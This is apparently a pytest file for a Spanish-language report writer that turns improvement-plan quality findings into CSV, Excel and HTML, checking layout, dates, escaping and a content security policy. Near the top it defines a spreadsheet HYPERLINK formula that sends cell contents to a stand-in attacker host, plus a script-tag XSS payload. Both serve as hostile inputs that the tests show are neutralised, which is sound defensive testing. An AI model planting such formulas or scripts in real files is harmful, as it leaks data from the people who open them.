"""The three report files as the control office opens them, built from rows written by hand."""

import csv
import datetime as dt
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from planmejora.calidad import escribir
from planmejora.calidad.modelo import Accion, DocumentoIlegible, FilaProblema, Filtros, Reporte
from planmejora.calidad.salida_html import html_de
from planmejora.salidas.escapar import hash_csp

HIPERVINCULO = '=HYPERLINK("http://malo.example/robar?d="&A1,"Clic aquí")'
GUION = "<script>alert('xss')</script>"


def reporte() -> Reporte:
    return Reporte(
        base="sqlite:///planes.db",
        corte=dt.date(2022, 6, 30),
        generado=dt.datetime(2022, 7, 1, 8, 30),
        filtros=Filtros(),
        documentos=3,
        problemas=[
            FilaProblema(
                "planes/calica.pdf",
                "hallazgos[5].fecha_inicio",
                "fecha_inferida",
                "La fecha de inicio «004-21» no se puede leer; se dedujo de la terminación.",
                raw="004-21",
                valor="2021-09",
                pagina=2,
                fila=3,
                dependencia="Secretaría de Planeación",
                numero_hallazgo="06",
            ),
            FilaProblema(
                "planes/guavio.xlsx",
                "hallazgos[2].cumplimiento",
                "valor_desconocido",
                f"El cumplimiento dice {GUION}",
                raw=HIPERVINCULO,
                hoja="Plan 2022",
                fila=14,
                dependencia="Secretaría de Hacienda",
            ),
            FilaProblema(
                "planes/guavio.xlsx",
                "encabezado.fecha_suscripcion",
                "fecha_corregida",
                "Se leyó 21/09/2021.",
                raw="21sept-21",
                valor="2021-09-21",
                hoja="Plan 2022",
                fila=4,
            ),
        ],
        acciones=[
            Accion(
                "planes/calica.pdf",
                "Calica — planes/calica.pdf",
                "1",
                "Actualizar <b>inventario</b>",
                "Secretaría de Planeación",
                dt.date(2022, 1, 1),
                "mes",
                "abierta",
                None,
                None,
                entidad="ALCALDÍA DE CALICA",
                cargo_responsable="Directora de Planeación",
            ),
            Accion(
                "planes/calica.pdf",
                "Calica — planes/calica.pdf",
                "2",
                "Capacitar",
                "Secretaría de Planeación",
                dt.date(2022, 1, 1),
                "mes",
                "cerrada",
                True,
                True,
            ),
            Accion(
                "planes/guavio.xlsx",
                "Guavio — planes/guavio.xlsx",
                "1",
                "Conciliar",
                "Secretaría de Hacienda",
                dt.date(2022, 5, 4),
                "dia",
                None,
                True,
                False,
            ),
        ],
        ilegibles=[DocumentoIlegible("planes/vacio.pdf", "El archivo está vacío (0 bytes).")],
    )


def test_csv_con_las_columnas_del_contrato_bom_y_una_fila_por_problema(tmp_path: Path) -> None:
    ruta = tmp_path / "calidad.csv"
    escribir(reporte(), ruta)
    assert ruta.read_bytes().startswith(b"\xef\xbb\xbf")
    with ruta.open(encoding="utf-8-sig", newline="") as archivo:
        filas = list(csv.reader(archivo))
    assert filas[0] == ["archivo", "ubicacion", "campo", "codigo", "raw", "valor", "mensaje"]
    assert len(filas) == 1 + 3
    assert filas[1] == [
        "planes/calica.pdf",
        "página 2, fila 3",
        "hallazgos[5].fecha_inicio",
        "fecha_inferida",
        "004-21",
        "2021-09",
        "La fecha de inicio «004-21» no se puede leer; se dedujo de la terminación.",
    ]
    assert filas[2][1] == "hoja «Plan 2022», fila 14"
    assert filas[2][4] == "'" + HIPERVINCULO
    assert filas[2][5] == ""


def test_xlsx_resumen_y_detalle_filtrables_con_fechas_de_excel(tmp_path: Path) -> None:
    ruta = tmp_path / "calidad.xlsx"
    escribir(reporte(), ruta)
    libro = load_workbook(ruta)
    assert libro.sheetnames[:2] == ["Resumen", "Problemas"]
    assert {"Vencidas", "Seguimiento"} <= set(libro.sheetnames)

    resumen = {fila[0]: fila[1] for fila in libro["Resumen"].iter_rows(values_only=True) if fila and fila[0]}
    assert resumen["Problemas"] == 3 and resumen["Documentos"] == 3 and resumen["Acciones vencidas"] == 2
    assert resumen["Fecha de corte"] == dt.datetime(2022, 6, 30)
    cantidades = [fila for fila in libro["Resumen"].iter_rows() if isinstance(fila[1].value, int)]
    assert cantidades and all(fila[1].alignment.horizontal == "left" for fila in cantidades)
    assert libro["Resumen"].column_dimensions["A"].width <= 60

    detalle = libro["Problemas"]
    assert detalle.freeze_panes == "A2" and detalle.print_title_rows == "$1:$1"
    assert detalle.page_setup.orientation == "landscape" and detalle.sheet_properties.pageSetUpPr.fitToPage
    assert detalle.auto_filter.ref == f"A1:J{1 + 3}"
    assert detalle.column_dimensions["H"].width > detalle.column_dimensions["D"].width >= 10
    encabezados = [c.value for c in detalle[1]]
    raw = detalle.cell(3, encabezados.index("Valor escrito") + 1)
    assert raw.value == "'" + HIPERVINCULO and raw.data_type == "s"
    assert detalle.cell(2, encabezados.index("Qué valor") + 1).value == "acción N° 06, fecha de inicio"
    assert detalle.cell(2, encabezados.index("Campo (JSON)") + 1).value == "hallazgos[5].fecha_inicio"
    adoptado = detalle.cell(2, encabezados.index("Valor adoptado") + 1)
    assert adoptado.value == dt.datetime(2021, 9, 1) and adoptado.is_date

    vencidas = libro["Vencidas"]
    assert vencidas.freeze_panes == "A2" and vencidas.auto_filter.ref
    encabezados = [c.value for c in vencidas[1]]
    filas = [dict(zip(encabezados, f, strict=True)) for f in vencidas.iter_rows(min_row=2, values_only=True)]
    assert [(f["Dependencia"], f["Vence"], f["Días de atraso"]) for f in filas] == [
        ("Secretaría de Hacienda", dt.datetime(2022, 5, 4), 57),
        ("Secretaría de Planeación", dt.datetime(2022, 1, 31), 150),
    ]
    assert (filas[1]["Entidad"], filas[1]["Cargo responsable"]) == ("ALCALDÍA DE CALICA", "Directora de Planeación")
    assert vencidas.page_setup.orientation == "landscape" and vencidas.print_title_rows == "$1:$1"
    assert vencidas.cell(3, encabezados.index("Terminación") + 1).number_format == "[$-240A]MMM-YYYY"


def test_ninguna_celda_del_libro_es_una_formula(tmp_path: Path) -> None:
    ruta = tmp_path / "calidad.xlsx"
    escribir(reporte(), ruta)
    for hoja in load_workbook(ruta):
        for fila in hoja.iter_rows():
            assert all(c.data_type != "f" for c in fila)


def test_html_autocontenido_sin_red_con_el_texto_escapado() -> None:
    pagina = html_de(reporte())
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", pagina)
    assert "<link" not in pagina
    assert GUION not in pagina and "&lt;script&gt;alert(" in pagina
    assert "<b>inventario</b>" not in pagina
    assert pagina.count("<script>") == 1
    assert HIPERVINCULO not in pagina


def test_la_politica_de_seguridad_deja_correr_solo_el_guion_y_el_estilo_de_la_pagina() -> None:
    pagina = html_de(reporte())
    guion = re.search(r"<script>(.*?)</script>", pagina, re.S)
    estilo = re.search(r"<style>(.*?)</style>", pagina, re.S)
    assert guion and estilo
    politica = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', pagina)
    assert politica
    assert "default-src 'none'" in politica.group(1).replace("&#39;", "'")
    assert hash_csp(guion.group(1)) in politica.group(1).replace("&#39;", "'")
    assert hash_csp(estilo.group(1)) in politica.group(1).replace("&#39;", "'")
    assert "unsafe-inline" not in politica.group(1)


def test_html_totales_primero_y_problemas_agrupados_por_archivo() -> None:
    pagina = html_de(reporte())
    assert pagina.index('data-total="problemas">3<') < pagina.index("Problemas por archivo")
    assert 'data-total="vencidas">2<' in pagina
    calica, guavio = pagina.index("<h3>planes/calica.pdf"), pagina.index("<h3>planes/guavio.xlsx")
    assert calica < guavio
    assert pagina.index("página 2, fila 3") < guavio < pagina.index("hoja «Plan 2022», fila 14")
    assert "El archivo está vacío (0 bytes)." in pagina


def test_html_sin_problemas_lo_dice() -> None:
    vacio = reporte()
    vacio.problemas = []
    pagina = html_de(vacio)
    assert 'data-total="problemas">0<' in pagina
    assert "No hay problemas que mostrar." in pagina


def test_una_extension_desconocida_se_explica(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"\.html, \.xlsx o \.csv"):
        escribir(reporte(), tmp_path / "calidad.pdf")


def test_html_dice_quien_responde_por_cada_vencida_y_nombra_la_accion_por_su_numero() -> None:
    pagina = html_de(reporte())
    vencidas = pagina[pagina.index('class="vencidas"') : pagina.index("</details>")]
    for columna in ("Dependencia", "Cargo responsable", "Entidad", "Archivo", "N°", "Días de atraso"):
        assert f">{columna}</button>" in vencidas
    assert "Directora de Planeación" in vencidas and "ALCALDÍA DE CALICA" in vencidas
    assert "acción N° 06, fecha de inicio" in pagina
    assert ">09/2021<" in pagina and ">2021-09<" not in pagina, "a value adopted reads as the office writes dates"


def test_html_impreso_muestra_todo_y_cada_seccion_en_su_pagina() -> None:
    estilo = re.search(r"<style>(.*?)</style>", html_de(reporte()), re.S)
    assert estilo
    impreso = estilo.group(1)[estilo.group(1).index("@media print") :]
    assert "details.vencidas::details-content" in impreso
    assert "break-before: page" in impreso and ".desborde { overflow: visible; }" in impreso
